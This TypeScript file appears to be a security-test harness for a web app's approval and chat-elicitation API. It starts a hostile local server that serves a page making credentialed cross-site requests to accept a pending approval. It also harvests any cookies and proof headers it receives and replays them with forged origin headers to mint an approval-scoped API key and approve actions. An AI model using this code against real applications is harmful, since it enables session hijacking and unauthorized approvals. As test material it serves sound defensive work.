// A hostile web server on another port of the app's host, under another user where it may choose. Whatever a browser
// sends it, it uses at once to read and to act in that browser's name, with headers written by hand. GET /taken tells
// what came of it. Arguments: the app's origin, and the id of an open card. Prints its port.
import { createServer, type IncomingHttpHeaders } from "node:http";
import type { AddressInfo } from "node:net";

export type Taken = {
  /** The Cookie headers that browsers sent. */
  cookies: string[];
  /** Every header with which a browser proves that a page of the app asks. */
  proofs: string[];
  /** Answers of the app to what was asked with them. */
  answers: { asked: string; status: number; text: string }[];
};

const nobody = 65_534;
const [app = "", approvalId = ""] = process.argv.slice(2);
const taken: Taken = { cookies: [], proofs: [], answers: [] };
let working = Promise.resolve();

const page = `<!doctype html><title>working</title><script type="module">
const app = ${JSON.stringify(app)};
const body = ${JSON.stringify(JSON.stringify({ approvalId, action: "accept" }))};
const json = { "content-type": "application/json" };
const target = app + "/api/chat/elicitation";
const quietly = (attempt) => attempt.catch(() => null);
await quietly(fetch("/loaded", { method: "POST", credentials: "include" }));
for (const request of [
  [target, { method: "POST", body, headers: json, credentials: "include" }],
  [target, { method: "POST", body, headers: { ...json, "countersign-proof": "a".repeat(64) }, credentials: "include" }],
  [target, { method: "POST", body, mode: "no-cors", credentials: "include" }],
  [app + "/api/approvals", { credentials: "include" }],
  [app + "/api/approvals", { credentials: "include", mode: "no-cors" }],
  [app + "/service-worker.js", { credentials: "include" }],
]) await quietly(fetch(...request));
navigator.sendBeacon(target, new Blob([body], { type: "text/plain" }));
const frame = document.createElement("iframe");
frame.src = app + "/inbox";
const loaded = new Promise((resolve) => (frame.onload = frame.onerror = resolve));
document.body.append(frame);
await loaded;
const opened = window.open(app + "/inbox");
for (const databases of [await quietly(indexedDB.databases?.() ?? Promise.resolve([]))])
  for (const { name } of databases ?? []) await quietly(fetch("/database?" + name));
opened?.close();
document.title = "done";
</script>`;

const server = createServer((request, response) => {
  if (request.url === "/taken") {
    void working.then(() => response.setHeader("content-type", "application/json").end(JSON.stringify(taken)));
    return;
  }
  take(request.headers);
  response.setHeader("content-type", "text/html").end(request.url === "/" ? page : "<!doctype html>");
});

function take({ cookie, "countersign-proof": proof }: IncomingHttpHeaders): void {
  if (typeof proof === "string") taken.proofs.push(proof);
  if (cookie === undefined) return;
  taken.cookies.push(cookie);
  working = working.then(() => use(cookie));
}

async function use(cookie: string): Promise<void> {
  const json = { "content-type": "application/json" };
  const posted = { method: "POST", headers: json };
  const attempts: [string, RequestInit][] = [
    ["/api/session", {}],
    ["/api/chats", {}],
    ["/api/approvals", {}],
    ["/api/events", {}],
    ["/", {}],
    ["/inbox", {}],
    ["/inbox", { headers: { rsc: "1" } }],
    ["/audit", { headers: { rsc: "1", "countersign-proof": "" } }],
    ["/inbox", { headers: { rsc: "1", "countersign-proof": "b".repeat(64) } }],
    ["/api/approvals", { headers: { "countersign-proof": "b".repeat(64) } }],
    ["/api/session", { ...posted, body: "{}" }],
    ["/api/keys", { ...posted, body: '{"name":"mine","scopes":["approvals:decide"]}' }],
    [`/api/approvals/${approvalId}/approve`, { ...posted, body: "{}" }],
    ["/api/chat/elicitation", { ...posted, body: JSON.stringify({ approvalId, action: "accept" }) }],
  ];
  for (const [path, { headers, ...init }] of attempts) {
    const asOurs = { cookie, origin: app, "sec-fetch-site": "same-origin", ...(headers as object) };
    for (const shown of [asOurs, { cookie, origin: app, ...(headers as object) }, { cookie, ...(headers as object) }]) {
      const response = await fetch(app + path, { ...init, headers: shown, signal: AbortSignal.timeout(10_000) });
      const text = path === "/api/events" && response.ok ? await firstOf(response) : await response.text();
      taken.answers.push({ asked: `${init.method ?? "GET"} ${path}`, status: response.status, text });
    }
  }
}

async function firstOf({ body }: Response): Promise<string> {
  const reader = body?.getReader();
  const { value } = (await reader?.read()) ?? {};
  await reader?.cancel();
  return new TextDecoder().decode(value);
}

server.listen(0, "127.0.0.1", () => {
  if (process.getuid?.() === 0) {
    process.setgroups?.([]);
    process.setgid?.(nobody);
    process.setuid?.(nobody);
  }
  process.stdout.write(`${(server.address() as AddressInfo).port}\n`);
});
